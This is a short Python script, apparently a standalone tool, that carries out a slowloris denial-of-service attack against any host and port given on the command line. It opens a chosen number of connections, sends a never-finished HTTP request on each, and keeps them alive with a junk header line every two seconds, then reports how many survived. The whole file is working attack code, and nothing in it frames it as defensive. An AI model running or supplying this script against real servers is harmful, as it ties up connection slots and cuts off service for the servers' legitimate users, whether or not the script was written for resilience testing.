"""Holds N connections open with a request that never finishes (one header byte every few seconds)."""
import socket, sys, time

host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
conns = []
for _ in range(count):
    s = socket.create_connection((host, port))
    s.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n")
    conns.append(s)
end = time.time() + seconds
while time.time() < end:
    for s in conns:
        try:
            s.sendall(b"X-a: b\r\n")
        except OSError:
            pass
    time.sleep(2)
alive = 0
for s in conns:
    try:
        s.sendall(b"X-a: b\r\n"); alive += 1
    except OSError:
        pass
    s.close()
print(f"slowloris: {count} connections held for {seconds:.0f}s, {alive} still open at the end")
